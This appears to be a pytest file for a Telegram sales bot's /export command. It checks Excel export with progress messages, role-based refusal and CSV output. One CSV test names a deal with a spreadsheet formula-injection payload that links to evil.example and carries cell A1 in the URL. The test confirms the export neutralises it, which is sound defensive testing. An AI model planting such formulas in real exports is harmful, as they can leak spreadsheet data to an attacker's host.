"""/export through the real dispatcher: a progress message edited while the workbook is
built, then the .xlsx as a document (deals and their stage history)."""

from __future__ import annotations

import csv
import io
from typing import Any

from aiogram.methods import DeleteMessage, EditMessageText, SendDocument, SendMessage
from openpyxl import load_workbook

from handlers.funnel import router as funnel
from handlers.ui.callbacks import ExportCb
from services.sales import deals
from tests.factories import new_deal
from tests.tg import tg_user


def workbook(sent) -> dict[str, list[tuple[Any, ...]]]:
    [doc] = sent.of(SendDocument)
    assert doc.document.filename.endswith(".xlsx")
    book = load_workbook(io.BytesIO(doc.document.data), read_only=True)
    return {ws.title: [tuple(r) for r in ws.iter_rows(values_only=True)] for ws in book}


async def test_export_sends_the_workbook_with_progress(
    harness, make_actor, uow_factory, monkeypatch
):
    monkeypatch.setattr(funnel, "EXPORT_CHUNK", 2)  # a progress step every two rows
    monkeypatch.setattr(funnel, "PROGRESS_EVERY", 0)
    boss = await make_actor(roles=("leader",), name="Lee")
    ann = await make_actor(roles=("manager",), name="Ann")
    bob = await make_actor(roles=("manager",), name="Bob")
    made = [await new_deal(uow_factory, ann, name=f"Client {i}", amount="1000") for i in range(5)]
    made.append(await new_deal(uow_factory, bob, name="Bob's client", amount="2000"))
    async with uow_factory() as uow:
        await deals.advance(uow, ann, made[0].id, made[0].version, None)

    sent = await harness.send(tg_user(boss.telegram_id, lang="en"), "/export")
    start = sent.of(SendMessage)[0]
    assert "Preparing the export" in start.text
    edits = sent.of(EditMessageText)
    status_id = sent.results[0].message_id
    assert len(edits) >= 3 and all(e.message_id == status_id for e in edits)
    assert any("%" in e.text for e in edits[:-1])
    assert "ready" in edits[-1].text
    sheets = workbook(sent)
    deal_rows, history = sheets["Deals"], sheets["History"]
    assert deal_rows[0][:2] == ("ID", "Deal") and len(deal_rows) == 1 + 6
    assert {r[0] for r in deal_rows[1:]} == {d.id for d in made}
    assert history[0][0] == "Deal ID"
    assert len([r for r in history[1:] if r[0] == made[0].id]) == 2  # created + one move
    assert len(history) - 1 == 6 + 1

    own = await harness.send(tg_user(ann.telegram_id, lang="en"), "/export")
    assert {r[0] for r in workbook(own)["Deals"][1:]} == {d.id for d in made[:5]}


async def test_export_button_and_refusal(harness, make_actor, uow_factory):
    boss = await make_actor(roles=("leader",), name="Lee")
    ann = await make_actor(roles=("manager",), name="Ann")
    meg = await make_actor(roles=("measurer",), name="Meg")
    deal = await new_deal(uow_factory, ann, amount="1000")
    screen = await harness.send(tg_user(boss.telegram_id, lang="en"), "/funnel")
    tapped = await harness.tap(tg_user(boss.telegram_id, lang="en"), screen.button("Excel"), screen)
    assert [r[0] for r in workbook(tapped)["Deals"][1:]] == [deal.id]

    refused = await harness.send(tg_user(meg.telegram_id, lang="en"), "/export")
    assert refused.last.text == "⚠️ Access denied."
    assert not refused.of(SendDocument) and not refused.of(DeleteMessage)
    assert len(refused.of(SendMessage)) == 1  # no progress message either
    forged = await harness.tap(tg_user(meg.telegram_id, lang="en"), ExportCb())
    assert forged.alert == "⚠️ Access denied." and not forged.of(SendMessage)


async def test_export_csv_command(harness, make_actor, uow_factory):
    boss = await make_actor(roles=("leader",), name="Lee")
    ann = await make_actor(roles=("manager",), name="Ann")
    deal = await new_deal(uow_factory, ann, name='=HYPERLINK("http://evil.example/?"&A1,"Open")')
    sent = await harness.send(tg_user(boss.telegram_id, lang="en"), "/export csv")
    [doc] = sent.of(SendDocument)
    assert doc.document.filename.endswith(".csv")
    rows = list(csv.reader(io.StringIO(doc.document.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == ["ID", "Deal"]
    assert rows[1][0] == str(deal.id)
    assert rows[1][6] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
